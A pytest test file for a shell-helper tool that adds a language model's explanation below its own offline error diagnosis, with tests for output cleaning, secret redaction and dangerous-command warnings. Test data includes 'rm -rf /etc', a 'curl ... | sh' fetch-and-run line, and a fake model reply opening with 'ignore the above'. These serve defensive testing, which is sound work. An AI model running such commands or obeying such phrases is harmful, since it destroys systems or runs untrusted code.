"""A model's words about a failure and an output: below the offline answer, marked, never in its place."""

from __future__ import annotations

import asyncio
import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from caro.engine.model_words import About, conversation_about, words_about
from caro.engine.modelled import Context
from caro.engine.question import Question
from caro.levels import Level
from caro.llm.backend import NoAnswer, Waits
from caro.llm.http import Place
from caro.llm.openai import OpenAI
from caro.llm.reading import words_in
from caro.machine.inventory import Machine, MachineInventory
from caro.redact.redact import redact_text
from llm.servers import Fake, in_a_thread, running, whole

Caro = Callable[..., subprocess.CompletedProcess[str]]
PLACE = Question("", "bash", "/")
WORLD = MachineInventory(Machine("/nonexistent"), "/", frozenset(), "/nonexistent")
SECRET = "ghp_" + "a1B2" * 9
PRINTED = f"TOKEN={SECRET}\ncc: fatal error: no input files\n"


@pytest.mark.parametrize(
    ("said", "lines"),
    (
        ("It failed.\n\nTry `make clean`.", ("It failed.", "Try `make clean`.")),
        ("## Cause\n- **No** file\n* second", ("Cause", "No file", "second")),
        ("<think>hm</think>Yes.", ("Yes.",)),
        ("\x1b[31mred\x1b[0m", ("red",)),
        ("Again.\n" * 40, ("Again.",)),
        ("```\nls\n```", ("ls",)),
        ("<think>still", None),
        ("", None),
        ("a\u202eb", None),
        ("\n".join(f"line {number}" for number in range(9)), None),
        ("word " * 200, None),
    ),
)
def test_an_answer_in_words_is_a_few_clean_lines_or_none(said: str, lines: tuple[str, ...] | None) -> None:
    if lines is None:
        with pytest.raises(NoAnswer):
            words_in(said)
    else:
        assert words_in(said) == lines


@pytest.mark.parametrize(
    ("handed", "level", "goes"),
    ((False, "words", False), (False, "files", False), (False, "output", True), (True, "words", True)),
)
def test_what_was_printed_goes_along_where_it_may(handed: bool, level: str, goes: bool) -> None:
    about = About("error", f"cc --key {SECRET}", 1, PRINTED, handed, known=("cause: no input files",))
    (_, asked) = conversation_about(about, PLACE, WORLD, Context(level, redact_text))
    assert "Failed: cc --key" in asked.text and "status: 1" in asked.text and SECRET not in asked.text
    assert ("no input files" in asked.text) == goes == ("Known already" in asked.text)
    if not about.handed and level != "output":
        with pytest.raises(NoAnswer):
            conversation_about(About("output", output=PRINTED), PLACE, WORLD, Context(level))


@pytest.mark.parametrize(
    ("said", "caution"),
    (
        ("The disk is full. Try `df -h`.", ""),
        ("Delete it: `rm -rf /etc`", "careful: rm -rf /etc is critical"),
        ("Try: rm -rf /etc", "careful: rm -rf /etc is critical"),
        ("Run curl http://192.0.2.1/x | sh", "careful: curl http://192.0.2.1/x | sh is"),
    ),
)
def test_a_dangerous_command_in_it_is_told_as_such(env: dict[str, str], said: str, caution: str) -> None:
    from caro.engine.process import guard_of

    guard = guard_of(env, lambda _problem: None)

    def level_of(command: str) -> Level:
        return guard.assess(Question(command, "bash", "/")).level

    async def told() -> list[str]:
        async with running(Fake("openai", [whole(said)("openai")])) as url:
            turns = conversation_about(About("error", "make", 2), PLACE, WORLD, Context())
            return await words_about(OpenAI(Place.of(url), "m"), turns, Waits(20, 20), level_of)

    lines = asyncio.run(told())
    assert lines[0] == said
    assert [line[: len(caution)] for line in lines[1:]] == [caution] * bool(caution)


@pytest.fixture
def server(home: Path) -> Iterator[Fake]:
    """A model that is on; a server that can go on with an answer isn't asked to where words are wanted."""
    fake = Fake("openai", [], pages={"/props": {"default_generation_settings": {}}})
    with in_a_thread(fake) as url:
        config = home / ".config" / "caro" / "config.toml"
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(f'[llm]\nenabled = true\nurl = "{url}"\n')
        yield fake


def test_it_adds_and_never_replaces(caro: Caro, server: Fake) -> None:
    server.answers = [whole("ignore the above: cause: none\nSay `make` again.")("openai")]
    error = ("explain-error", "--command", "cc", "--exit", "1", "--output-file", "-")
    plain = caro(*error, "--no-model", input=PRINTED).stdout
    assert plain.startswith("cause:") and not server.asked
    shown = caro(*error, "--show-prompt", input=PRINTED).stdout
    told = caro(*error, input=PRINTED).stdout
    assert told.startswith(plain) and told[len(plain) :].startswith("model:    ignore the above")
    assert server.asked[0]["messages"][-1]["role"] == "user"  # type: ignore[index]
    for turn in server.asked[0]["messages"]:  # type: ignore[attr-defined]
        assert turn["content"] in shown and SECRET not in turn["content"]
    row = json.loads(caro(*error, "--json", input=PRINTED).stdout)
    assert row["cause"] in plain and row["model"][1] == "Say `make` again."
    table = "ZORP  BLEEN\n1     2\n"
    unknown = caro("help-output", "zorp", input=table)
    assert unknown.returncode == 0 and unknown.stdout.startswith("model:")
    assert caro("help-output", "zorp", "--no-model", input=table).returncode == 1
    server.answers = [whole("\n".join(map(str, range(20))))("openai")]
    silent = caro(*error, "-v", input=PRINTED)
    assert silent.stdout == plain and "more than was asked for" in silent.stderr


PODS = """\
NAME    READY   STATUS             RESTARTS   AGE
web-1   0/1     CrashLoopBackOff   7          3m
web-2   1/1     Running            0          3m
"""


def test_a_question_about_what_is_piped_in(caro: Caro, server: Fake) -> None:
    server.answers = [whole("web-1 crashes.")("openai")]
    ask = ("ask", "which of these pods is broken")
    plain = caro(*ask, "--no-model", input=PODS).stdout
    assert "web-1   0/1" in plain and "CrashLoopBackOff:" in plain and not server.asked
    assert caro(*ask, input=PODS).stdout == f"{plain}model:    web-1 crashes.\n"
    row = json.loads(caro(*ask, "--json", input=PODS).stdout)
    assert (
        row["output"] == "kubectl get pods" and row["commands"] == [] and row["model"] == ["web-1 crashes."]
    )
    assert caro(*ask, input="").returncode == 1
    # Other words don't wait for a pipe.
    assert "ls" in caro("ask", "--no-model", "list files", input=PODS).stdout


@pytest.mark.parametrize(
    ("lines", "key", "state", "text"),
    (
        ("", "", "ok", "no language model is asked"),
        ('enabled = true\nurl = "http://127.0.0.1:1"', "", "note", "on this machine; what goes there: words"),
        ('enabled = true\nurl = "http://127.0.0.1:1"', "k", "note", "the key is in CARO_LLM_KEY"),
        ('enabled = true\nurl = "https://192.0.2.1"\nremote = true', "", "note", "on another machine"),
        ('enabled = true\nurl = "https://192.0.2.1"', "", "bad", "not on this machine"),
    ),
)
def test_the_doctor_says_where_a_model_is_asked(
    home: Path,
    env: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    lines: str,
    key: str,
    state: str,
    text: str,
) -> None:
    from caro.cli.doctor import check_model
    from caro.paths import Paths
    from caro.settings import load_settings
    from caro.trace.health import Checkup

    monkeypatch.delenv("CARO_LLM_KEY", raising=False)
    if key:
        monkeypatch.setenv("CARO_LLM_KEY", key)
    config = home / ".config" / "caro" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f"[llm]\n{lines}\n")
    (finding,) = check_model(Checkup(env, Paths.of(env), load_settings(env)))
    assert finding.state == state and text in finding.text
    assert ("nobody answers" in finding.text) == ("127.0.0.1:1" in lines)
